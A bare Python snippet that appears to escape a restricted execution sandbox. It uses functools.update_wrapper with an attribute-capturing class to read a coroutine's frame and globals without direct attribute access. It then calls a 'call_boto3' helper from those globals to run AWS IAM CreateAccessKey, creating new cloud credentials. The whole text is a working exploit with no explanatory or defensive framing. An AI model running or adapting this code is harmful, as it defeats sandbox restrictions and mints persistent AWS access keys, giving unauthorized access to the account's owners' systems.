import functools

store = []
W = type("W", (), {"__setattr__": lambda self, k, v: store.append(v)})

async def f():
    pass

coro = f()
functools.update_wrapper(W(), coro, assigned=("cr_frame",), updated=())
functools.update_wrapper(W(), store[-1], assigned=("f_globals",), updated=())
await store[-1]["call_boto3"](service_name="iam", operation_name="CreateAccessKey")
